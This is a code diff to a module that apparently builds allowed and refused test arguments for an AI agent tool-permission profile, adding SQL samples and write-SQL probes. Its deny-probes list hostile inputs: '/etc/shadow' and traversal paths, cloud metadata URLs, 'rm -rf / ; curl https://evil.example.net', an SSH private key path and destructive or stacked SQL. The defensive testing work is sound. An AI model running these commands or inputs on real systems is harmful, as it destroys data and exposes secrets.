@@ -20,7 +20,8 @@ from ..content.overrides import ArgCondition
 from ..derive.parameters import is_list, parameter_kinds, schema_properties
 from ..derive.words import name_words
 from .arguments import AMOUNT_CAP, RELATIVE_PATH_PATTERN, ROOT_PLACEHOLDER, ArgumentRule
-from .simulate import evaluate
+from .simulate import compiled_regex, evaluate
+from .sql import READ_SQL_PATTERN, SINGLE_SQL_PATTERN
 
 MIN_EXAMPLES, MAX_EXAMPLES = 3, 6
 GOOD_VALUES = {
@@ -31,15 +32,23 @@ GOOD_VALUES = {
     "sql": "SELECT id, name FROM customers LIMIT 10",
     "amount": 500,
 }
+SQL_SAMPLES = ("SELECT id, name FROM customers LIMIT 10", "INSERT INTO notes (id, done) VALUES (42, 0)",
+               "UPDATE notes SET done = 1 WHERE id = 42", "CREATE TABLE notes (id INTEGER PRIMARY KEY, title TEXT)")
+WRITE_SQL_PROBES = (("DROP TABLE customers", "a destructive statement"),
+                    ("DELETE FROM customers", "a DELETE, which the profile refuses"),
+                    ("INSERT INTO notes (id) VALUES (1) DELETE FROM customers",
+                     "a second statement without a ; (SQL Server runs both)"))
 BAD_VALUES: dict[str, tuple[tuple[Any, str], ...]] = {
     "path": ((f"{ROOT_PLACEHOLDER}/../../etc/passwd", "climbs out of the root"), ("/etc/shadow", "outside the root")),
     "url": (("http://169.254.169.254/latest/meta-data/", "the cloud metadata address"),
-            ("https://localhost:8080/admin", "a local service")),
-    "host": (("169.254.169.254", "the cloud metadata address"), ("localhost", "a local service")),
+            ("https://metadata.google.internal/computeMetadata/v1/", "the cloud metadata name")),
+    "host": (("169.254.169.254", "the cloud metadata address"), ("metadata.google.internal", "the cloud metadata name")),
     "callback": (("https://collector.example.net/hook", "results sent to an address the agent chose"),),
     "command": (("rm -rf / ; curl https://evil.example.net", "a destructive command chained to a download"),),
     "shell": (("/tmp/payload", "a program the agent chose to run the command"),),
-    "sql": (("DROP TABLE customers", "a destructive statement"),),
+    "sql": (("DROP TABLE customers", "a destructive statement"),
+            ("SELECT * INTO customers_copy FROM customers", "a SELECT that writes a table"),
+            ("SELECT pg_terminate_backend(pid) FROM pg_stat_activity", "a SELECT that ends every other session")),
     "amount": ((-500, "a negative amount, which would lower the counter"), (AMOUNT_CAP * 10, "over the per-call cap")),
     "flag": ((True, "forcing past safeguards"),),
     "paths": ((["/home/user/.ssh/id_rsa"], "a private key in the list"),),
@@ -110,6 +119,10 @@ class Example:
 def _sample(spec: Any, kind: str | None, rule: ArgumentRule | None = None) -> Any:
     if rule is not None and rule.condition.op == "regex" and rule.condition.value == RELATIVE_PATH_PATTERN:
         return ["notes/todo.md"] if is_list(spec) else "notes/todo.md"  # the rule wants a relative path
+    if kind == "sql" and rule is not None and rule.condition.op == "regex":  # a statement of the kind it allows
+        pattern = compiled_regex(str(rule.condition.value))
+        return next((sample for sample in SQL_SAMPLES if not isinstance(pattern, str) and pattern.search(sample)),
+                    SQL_SAMPLES[0])
     if kind in GOOD_VALUES:
         if is_list(spec):  # a command as its words: ["ls", "-la"]
             return str(GOOD_VALUES[kind]).split() if kind == "command" else [GOOD_VALUES[kind]]
@@ -156,7 +169,9 @@ def _calls(schema: dict[str, Any] | None, rules: tuple[ArgumentRule, ...], descr
     required = (schema or {}).get("required")
     required_names = {str(name) for name in required} if isinstance(required, list) else set()
     kinds = parameter_kinds(schema, description)
-    ruled = {rule.parameter: rule for rule in rules}
+    ruled: dict[str, ArgumentRule] = {}
+    for rule in rules:  # an argument's first rule: for SQL, the statement it must be
+        ruled.setdefault(rule.parameter, rule)
     held_absent = absent | {name for name, rule in ruled.items() if rule.condition.op == "exists"}
     typical = _typical(properties, required_names, kinds, ruled, reviewed, held_absent)
     calls = [(typical, "a typical call")]
@@ -199,6 +214,8 @@ def _bad_values(rule: ArgumentRule, spec: Any) -> tuple[tuple[Any, str], ...]:
         enum = spec.get("enum") if isinstance(spec, dict) else None
         refused = [value for value in (enum or []) if value not in allowed]
         return ((refused[0], "a value the profile does not allow"),) if refused else ()
+    if rule.kind == "sql" and rule.condition.value not in (READ_SQL_PATTERN, SINGLE_SQL_PATTERN):
+        return WRITE_SQL_PROBES  # a tool for writes: what it may not write
     return BAD_VALUES.get(rule.kind, ())
 
 
